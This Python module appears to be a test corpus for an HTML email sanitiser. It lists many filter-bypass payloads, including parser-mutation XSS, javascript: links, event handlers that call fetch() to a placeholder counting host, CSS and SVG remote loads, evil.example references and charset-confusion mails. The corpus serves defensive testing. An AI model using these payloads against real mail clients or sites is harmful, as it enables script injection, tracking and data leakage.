"""More of it, each class by other ways: `{to}` is an address of a server that counts what comes."""

from __future__ import annotations

import base64
from collections.abc import Callable

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"

IMAGES = (
    '<img src=" \x01 http:{to}/a.png">',
    '<img src="http:{to}\\a.png"><img src="HTTP:{to}/b.png">',
    '<img src="cid:logo" srcset="data:,x 1x, {to}/a 2x">',
    (
        '<picture><source media="(min-width:1px)" type=image/avif srcset="{to}/a">'
        '<img src="cid:logo"></picture>'
    ),
    '<img src="cid:logo" style="content:url({to}/a)">',
    '<img crossorigin=use-credentials decoding=sync importance=high src="{to}/a">',
    "<img src=cid:logo src={to}/a><img src='{to}/b' src=cid:logo>",
    '<table><tr background="{to}/a"><th background="{to}/b">x<col background="{to}/c"></table>',
    '<ul background="{to}/a"><li background="{to}/b" src="{to}/c">x</ul>',
    '<body bgproperties=fixed background="{to}/a" style="background:url({to}/b)">x',
    '<input type=image srcset="{to}/a"><input type=IMAGE\nsrc="{to}/b" alt=x>',
    '<img src="data:image/png,x" onerror="this.src=\'{to}/a\'" longdesc={to}/b>',
    '<img\x0csrc="{to}/a"><img\x0bsrc="{to}/b"><img/\x00/src="{to}/c">',
    "<img alt=\"``onload=\" src='{to}/a'><img alt='&#39;><img src={to}/b>'>",
    '<video poster="{to}/a"></video><audio><source srcset="{to}/b" src="{to}/c"></audio>',
    '<hr src="{to}/a"><spacer src="{to}/b"><bgsound src={to}/c><sound src={to}/d>',
    (
        '<img src="{to}/a" usemap="#m"><map name=m><area shape=default href="ht'
        'tp:{to}/b" ping="{to}/c">'
        "</map>"
    ),
)
"""Of which a plain `img` may be left where images were asked for."""

STYLES = (
    "cross-fade('{to}/a' 50%, red)",
    "-webkit-cross-fade('{to}/a', '{to}/b', 50%)",
    "-moz-image-rect('{to}/a',0,0,1,1)",
    "IMAGE-SET('{to}/a' type('image/png') 1x)",
    "-webkit-image-set(url({to}/a) 1x)",
    "url({to}/a",
    "\\0075\\000072l({to}/a)",
    "u\\\nrl({to}/a)",
    "url(&#x2f;&#x2f;{to}/a)",
    "var(--x, url({to}/a))",
    "if(style(--x:1): url({to}/a); else: url({to}/b))",
    "attr(title type(<image>))",
    "image(ltr '{to}/a', red)",
    "element(#x) , paint(y) , url('{to}/a')",
    "url({to}/a) local , -webkit-canvas(x)",
    "light-dark(url({to}/a), url({to}/b))",
    "symbols('{to}/a') type('{to}/b')",
    "src('{to}/a')",
    "url({to}/a) url-prefix('{to}/b') domain(x)",
    "'{to}/a'",
)
"""Values of `background`, in a style attribute."""

PROPERTIES = (
    "-webkit-box-reflect:below 0 url({to}/a)",
    "-webkit-mask-box-image:url({to}/a) 30",
    "offset-path:url({to}/a#b)",
    "marker-start:url({to}/a#b);fill:url({to}/c#d);stroke:url({to}/e#f)",
    "border-image-source:url({to}/a);border:1px solid",
    "list-style-image:url({to}/a);display:list-item",
    "cursor:-webkit-image-set(url({to}/a) 1x),auto",
    "behavior:url({to}/a.htc);-moz-binding:url({to}/b.xml#c)",
    "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{to}/a')",
    "width:expression(document.write('<img src={to}/a>'))",
    "background:red;}}</style><img src={to}/a><style>{{",
    "content:image-set('{to}/a' 1x);quotes:'{to}/b'",
    "font:9px url({to}/a);src:url({to}/b)",
    "-webkit-border-image:url({to}/a) 1 1 1 1;-o-link:'{to}/b'",
    "color:red;/*;*/background/**/:/**/url(/**/{to}/a)",
    "position:fixed;inset:0;z-index:9;background:url({to}/a)",
)

SHEETS = (
    "@import '{to}/a' screen;@import\tURL({to}/b);@IMPORT \"{to}/c\" layer;",
    "@page{{background:url({to}/a)}}@media all{{*{{background:url({to}/b)}}}}",
    "@counter-style c{{system:cyclic;symbols:url({to}/a)}}ol{{list-style:c}}",
    (
        "@property --x{{syntax:'<image>';inherits:true;initial-value:url({to}/a"
        ")}}*{{background:var(--x)}}"
    ),
    "@supports (background:url({to}/a)){{p::before{{content:url({to}/b)}}}}",
    "@font-face{{font-family:f;src:local(x),url({to}/a);unicode-range:U+61}}p{{font-family:f}}",
    (
        "@container style(--a:1){{p{{background:url({to}/a)}}}}@layer b{{p{{cur"
        "sor:url({to}/c),auto}}}}"
    ),
    (
        "@document url-prefix(''){{p{{background:url({to}/a)}}}}@scope (p){{:sc"
        "ope{{mask:url({to}/b)}}}}"
    ),
    "p:not(:visited),a:link{{background:url({to}/a)}}:has(p){{list-style:url({to}/b)}}",
    "@starting-style{{p{{background:url({to}/a)}}}}::view-transition{{background:url({to}/b)}}",
    "<!-- @import url({to}/a); --> p{{background:url({to}/b)",
    "@charset \"utf-7\";@import '+AC8ALw-{to}/a';@namespace svg url({to}/b);",
)

LOADS = (
    '<link rel="alternate stylesheet" title=x href="{to}/a.css"><link rel=import href={to}/b>',
    '<link rel="dns-prefetch preconnect" crossorigin href="{to}">',
    '<link rel="expect" blocking=render href="{to}/a"><link rel=subresource href={to}/b>',
    '<link rel="compression-dictionary" href="{to}/a"><link rel=monetization href={to}/b>',
    '<link rel="apple-touch-icon mask-icon shortcut icon" href="{to}/a.png">',
    '<link rel=search type="application/opensearchdescription+xml" href="{to}/a">',
    '<svg><link rel=stylesheet href="{to}/a"></svg><math><link rel=preconnect href={to}></math>',
    '<body><p><link itemprop=x rel=preload as=font crossorigin href="{to}/a">',
    '<meta http-equiv="Refresh" content="0; {to}/a">',
    "<meta http-equiv=refresh content=\"0;url='data:text/html,<img src={to}/a>'\">",
    '<noscript><meta http-equiv=refresh content="0;url={to}/a"></noscript>',
    '<meta http-equiv=link content="<{to}/a>; rel=preload; as=image">',
    '<meta http-equiv=x-dns-prefetch-control content=on><a href="https:{to}/">x</a>',
    '<meta name=referrer content=unsafe-url><meta property=og:image content="{to}/a">',
    '<base target=_top href="http:{to}/"><img src=a><a href=b>x</a><link rel=stylesheet href=c>',
    '<iframe src="data:text/html,<img src={to}/a>"></iframe>',
    "<iframe src=\"javascript:'<img src={to}/a>'\"></iframe>",
    '<iframe src=about:srcdoc srcdoc="<link rel=preconnect href={to}>"></iframe>',
    '<iframe src="blob:null/1" onload="fetch(\'{to}/a\')"></iframe><iframe sandbox src={to}/b>',
    '<object codebase="{to}/" data="a"><param name=movie value="{to}/b"></object>',
    '<object type=image/svg+xml data="data:image/svg+xml,'
    + _SVG
    + "<image href='{to}/a'/></svg>\">"
    "</object>",
    '<embed type=image/svg+xml src="{to}/a"><object classid="{to}/b"></object>',
    '<frameset cols=1><frame src="data:text/html,<iframe src={to}/a>"></frameset>',
    '<html manifest="{to}/a"><head profile="{to}/b"><body><q cite="{to}/c">x</q><del cite={to}/d>x',
    '<a href="https:{to}/" ping="{to}/a" attributionsrc="{to}/b" download={to}/c>x</a>',
    '<script type=webbundle>{{"source":"{to}/a","resources":["{to}/b"]}}</script>',
    "<script type=module>import '{to}/a'</script><script nomodule src={to}/b></script>",
    '<script type=speculationrules>{{"prerender":[{{"where":{{"href_matches":"/*"}}}}]}}</script>',
    '<video controls><track kind=captions default src="{to}/a"><source src="{to}/b"></video>',
    '<!DOCTYPE html PUBLIC "x" "{to}/a.dtd" [<!ENTITY y SYSTEM "{to}/b">]><p>&y;',
    '<?xml-stylesheet type="text/xsl" href="{to}/a"?><xml src="{to}/b"></xml>',
    '<div itemscope itemtype="{to}/a"><img itemprop=image src=cid:logo data-src="{to}/b"></div>',
)

SVG = (
    "<pattern id=p><image xlink:href='{to}/a' width=9 height=9 /></pattern><rect fill=url(#p) />",
    "<filter id=f><feImage xlink:href='{to}/a'/></filter><g filter=url(#f)><rect/></g>",
    "<cursor xlink:href='{to}/a'/><tref xlink:href='{to}/b'/><textPath href='{to}/c'/>",
    "<linearGradient href='{to}/a#b'/><mpath href='{to}/c#d'/><mask href='{to}/e'/>",
    "<font-face><font-face-src><font-face-uri href='{to}/a'/></font-face-src></font-face>",
    "<script xlink:href='{to}/a'/><handler type=text/javascript>fetch('{to}/b')</handler>",
    "<a><set attributeName=xlink:href to='{to}/a' begin=0s /><text>x</text></a>",
    "<image><animate attributeName=href from='{to}/a' to='{to}/b' dur=1s /></image>",
    "<discard href='{to}/a'/><view viewTarget='{to}/b'/>",
    "<foreignObject><iframe src='{to}/a'></iframe><img src='{to}/b'></foreignObject>",
    "<g xml:base='{to}/'><image href=a width=9 height=9 /><use href='b#c'/></g>",
    "<style>@import '{to}/a';@font-face{{font-family:x;src:url({to}/b)}}text{{font:9px x}}</style>",
    "<rect style='fill:url({to}/a#b);cursor:url({to}/c),auto'/>",
    "<animateMotion onbegin=\"fetch('{to}/a')\" dur=1s /><title><img src='{to}/b'></title>",
)

MATH = (
    "<maction actiontype='statusline#x' xlink:href='{to}/a'><mtext>x</mtext></maction>",
    "<mtext><mglyph src='{to}/a' alt=x></mglyph></mtext>",
    "<semantics><annotation src='{to}/a'>x</annotation></semantics>",
    "<mstyle mathbackground='url({to}/a)' style='background:url({to}/b)'><mi>x</mi></mstyle>",
    "<mtext></p><img src='{to}/a'></mtext>",
    (
        "<annotation-xml encoding='application/xhtml+xml'><style><a title=\"</s"
        'tyle><img src={to}/a>">'
    ),
    "<mi href='javascript:fetch(\"{to}/a\")' altimg='{to}/b' definitionURL='{to}/c'>x</mi>",
)

MUTATIONS = (
    "<noscript><style></noscript><img src={to}/a></style>",
    "<svg></br><style><img src={to}/a></style>",
    "<table><math><select><mtext><style></math><img src={to}/a>",
    '<p><svg><desc><p title="</desc><img src={to}/a>"></desc></svg>',
    '<svg><p><style><g title="</style><img src={to}/a>">',
    "<!--[if gte mso 9]><img src={to}/a><![endif]--><![if !x]><img src='{to}/b'><![endif]>",
    "<?php echo '<img src={to}/a>' ?><% <img src={to}/b> %>",
    "<style><![CDATA[</style><img src={to}/a>]]></style>",
    "<template><style></template><img src={to}/a></style></template>",
    "<listing>&lt;img src={to}/a&gt;</listing><xmp><svg></xmp><img src='{to}/b'>",
    (
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="<'
        '/style><img src={to}/a>">'
    ),
    "<" + "div><" * 505 + "svg><title><table><caption><p title='</title><img src={to}/a>'>",
    "<a href='x'><table><a href='y'><svg><title></a><img src={to}/a></title>",
    "<font color='<img src={to}/a>' face=\"'><img src={to}/b>\">x</font>",
    "<math><mi><table><mi><style><!--</mi></style><img title='--><img src={to}/a>'>",
    "<select><option><style></option></select><img src={to}/a></style>",
    "</template><textarea><svg></textarea><img src={to}/a><plaintext>",
    (
        "<b><p><b><svg><a><foreignobject><a><table><a></table><style><!--</styl"
        "e></svg><a id='-><img src={to}/a>'>"
    ),
)

SCRIPTS = (
    "<a href='javascript&colon;fetch(\"{to}/a\")'>x</a><a href='\x01javascript:1'>y</a>",
    (
        "<a href='java\nscript:1'>x</a><a href=' &#14; javascript:1'>y</a><a hr"
        'ef="JaVaScRiPt:1">z</a>'
    ),
    "<a href='https://good.example' href='javascript:1' xlink:href='javascript:2'>x</a>",
    "<a href='view-source:http:{to}/a'>x</a><a href='intent://x#Intent;scheme=http;end'>y</a>",
    (
        "<a href='filesystem:http:{to}/a'>x</a><a href='feed:javascript:1'>y</a"
        "><a href='ws:{to}/'>z</a>"
    ),
    "<a href='ms-word:ofe|u|http:{to}/a'>x</a><a href='search-ms:q'>y</a><a href='smb:{to}/'>z</a>",
    (
        "<a href='//evil.example/x'>x</a><a href='/api/sign-out'>y</a><a href='"
        "#main'>z</a><a href=''>w</a>"
    ),
    "<a href='data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+'>x</a><a href='blob:null/1'>y</a>",
    "<form action='{to}/a' target=_top><input type=submit autofocus value=x></form>",
    (
        "<form id=f method=dialog action='{to}/a'></form><input form=f formacti"
        "on='{to}/b' type=submit>"
    ),
    "<button command=show-modal commandfor=d formaction='{to}/a' formtarget=_top>x</button>",
    "<form action='{to}/a'><input name=_charset_ type=hidden><keygen name=k><output form=f></form>",
    "<body onhashchange=1 onbeforeunload=\"fetch('{to}/a')\" onmessage=1><p onpointerrawupdate=1>x",
    (
        "<p onscrollend=1 oncontentvisibilityautostatechange=\"fetch('{to}/a')\""
        " style='content-visibility:auto'>x"
    ),
    "<style onload=\"fetch('{to}/a')\"></style><link rel=x onerror=\"fetch('{to}/b')\" href=x>",
    (
        "<div contenteditable autofocus onbeforeinput=1 onfocusin=\"fetch('{to}"
        "/a')\" accesskey=x>x</div>"
    ),
    (
        "<img src=x onloadstart=1 onerror=&#102;etch('{to}/a')><image src=x one"
        "rror=\"fetch('{to}/b')\">"
    ),
    "<object data='data:text/html,<script>fetch(\"{to}/a\")</script>'></object>",
)

_IN_DATA = base64.b64encode(f"{_SVG}<image href='http://evil.example/'/></svg>".encode()).decode()

DATA = (
    f'<img src="data:image/svg+xml;base64,{_IN_DATA}">',
    '<img src="data:image/png,<svg onload=fetch(\'{to}/a\')>"><img src="data:text/html,x">',
    '<img src="DATA:IMAGE/SVG+XML;charset=utf-8,%3Csvg%3E"><img src="data:image/png;x=svg+xml,x">',
    '<img src="blob:null/1"><img src="filesystem:http:{to}/a"><img src="about:blank">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" onload="fetch(\'{to}/a\')">',
    (
        '<img src="cid:&quot;><img src={to}/a>"><img src="cid:../../x"><img src'
        '="CID:logo" srcset={to}/b>'
    ),
    (
        '<img src="x-apple-ql-id:1"><img src="moz-extension://x/y"><img src="ch'
        'rome://x"><img src="file:///x">'
    ),
)

TWISTS = {
    f"{kind} {number}": html
    for kind, each in {
        "twisted image": IMAGES,
        "twisted style": [f'<p title="{{to}}/t" style="background:{v}">x' for v in STYLES],
        "twisted property": [f'<p style="{value}">x' for value in PROPERTIES],
        "twisted sheet": [f"<style media=all>{sheet}</style><p>x" for sheet in SHEETS],
        "twisted load": LOADS,
        "twisted svg": [f"{_SVG}{inner}</svg>" for inner in SVG],
        "twisted math": [f"<math>{inner}</math>" for inner in MATH],
        "twisted mutation": MUTATIONS,
        "twisted script": SCRIPTS,
        "twisted data": DATA,
    }.items()
    for number, html in enumerate(each, start=1)
}

_PLAIN = '<img src="{to}/a.png"><link rel=stylesheet href="{to}/b"><p>shown'


def _html(charset: str, encode: Callable[[str], bytes]) -> Callable[[str], bytes]:
    def mail(to: str) -> bytes:
        head = f"Subject: x\r\nContent-Type: text/html; charset={charset}\r\n\r\n"
        return head.encode() + encode(_PLAIN.format(to=to))

    return mail


def _as(kind: str) -> Callable[[str], bytes]:
    def mail(to: str) -> bytes:
        return f"Subject: x\r\nContent-Type: {kind}\r\n\r\n{_PLAIN.format(to=to)}".encode()

    return mail


def _nested(to: str) -> bytes:
    inner = _as("text/html")(to)
    return b"Subject: x\r\nContent-Type: message/rfc822\r\n\r\n" + inner


def _alternatives(to: str) -> bytes:
    kinds = ("text/plain", "text/x-amp-html", "text/html; charset=utf-7", "image/svg+xml")
    parts = "".join(f"--b\r\nContent-Type: {k}\r\n\r\n{_PLAIN.format(to=to)}\r\n" for k in kinds)
    return f"Content-Type: multipart/alternative; boundary=b\r\n\r\n{parts}--b--".encode()


def _utf_7(text: str) -> bytes:
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-").encode()


MAILS: dict[str, Callable[[str], bytes]] = {
    "utf-7": _html("utf-7", _utf_7),
    "utf-16": _html("utf-16", lambda text: text.encode("utf-16")),
    "utf-16 that is none": _html("utf-16le", str.encode),
    "ebcdic": _html("cp037", lambda text: text.encode("cp037")),
    "hz": _html("hz-gb-2312", lambda text: b"~{" + text.encode() + b"~}" + text.encode()),
    "iso-2022-jp": _html("iso-2022-jp", lambda text: b"\x1b$B!!\x1b(B" + text.encode()),
    "overlong": _html("utf-8", lambda t: t.encode().replace(b"<", b"\xc0\xbc") + t.encode()),
    "a mark of order": _html("iso-8859-1", lambda t: b"\xff\xfe" + t.encode("utf-16le")),
    "its own charset": _html("x", lambda t: b"<meta charset=utf-7>" + _utf_7(t) + t.encode()),
    "text that is html": _as("text/plain"),
    "enriched text": _as("text/enriched"),
    "a calendar": _as("text/calendar"),
    "no type": _as("x"),
    "xhtml": _as("application/xhtml+xml"),
    "svg": _as("image/svg+xml"),
    "xml": _as("text/xml"),
    "a mail within": _nested,
    "alternatives": _alternatives,
}
"""Whole mails that say in other ways what they are."""
